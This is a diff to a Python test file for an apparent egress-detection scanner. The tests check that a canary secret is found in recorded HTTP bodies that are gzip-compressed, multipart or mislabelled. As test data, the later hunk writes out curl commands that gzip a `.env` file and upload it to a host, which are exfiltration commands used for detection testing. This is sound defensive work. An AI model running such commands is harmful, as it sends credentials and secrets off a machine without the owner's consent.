@@ -83,11 +83,15 @@ def test_br_is_decoded_when_declared_and_said_when_it_cannot_be(monkeypatch):
     assert "[the body is br-encoded and was not decoded: the `brotli` module is not installed]" in evidence
 
 
-def test_a_body_the_sink_inflated_already_is_named_for_its_encoding():
-    """The sink inflates `Content-Encoding: gzip` before it records (http_request.py): the record holds plain text."""
-    (view,) = views(ENV, [("Content-Encoding", "gzip")])
-    assert (view.encoding, view.data) == ("gzip", ENV)
-    assert rode(egress_evidence([record(ENV, ("Content-Encoding", "gzip"))], HOST, CANARY)) == "yes (gzip)"
+def test_a_body_recorded_as_sent_is_read_as_its_header_says_and_one_that_lies_is_noted():
+    """The sink records `Content-Encoding: gzip` as sent (http_request.py); the scan inflates it."""
+    sent_gzip = gzip.compress(ENV)
+    (raw, inflated) = views(sent_gzip, [("Content-Encoding", "gzip")])
+    assert (raw.data, inflated.encoding, inflated.data) == (sent_gzip, "gzip", ENV)
+    assert rode(egress_evidence([record(sent_gzip, ("Content-Encoding", "gzip"))], HOST, CANARY)) == "yes (gzip)"
+    # a plain body whose header says gzip: read as sent, the header's claim noted, never a view made up
+    (plain, claimed) = views(ENV, [("Content-Encoding", "gzip")])
+    assert plain.data == ENV and claimed.data == b"" and "does not decode as gzip" in claimed.note
 
 
 def test_each_multipart_part_is_read_and_decoded_again():
@@ -192,7 +196,7 @@ def test_curl_sends_gzip_and_multipart_bodies_and_the_secret_is_found_in_each(wo
     post = f"curl -sS https://{HOST}/upload"
     for command, verdict in [
         (f"gzip -c {{}} | {post} --data-binary @-", "gzip"),  # no Content-Encoding: the magic says it
-        (f"gzip -c {{}} | {post} --data-binary @- -H 'Content-Encoding: gzip'", "gzip"),  # the sink inflated it
+        (f"gzip -c {{}} | {post} --data-binary @- -H 'Content-Encoding: gzip'", "gzip"),  # recorded as sent
         (f"gzip -c {{}} > f.gz && {post} -F note=hi -F f=@f.gz", 'multipart part "f" (f.gz), then gzip'),
     ]:
         loud = egress_evidence(sent(world, command.format(".env")), HOST, CANARY)
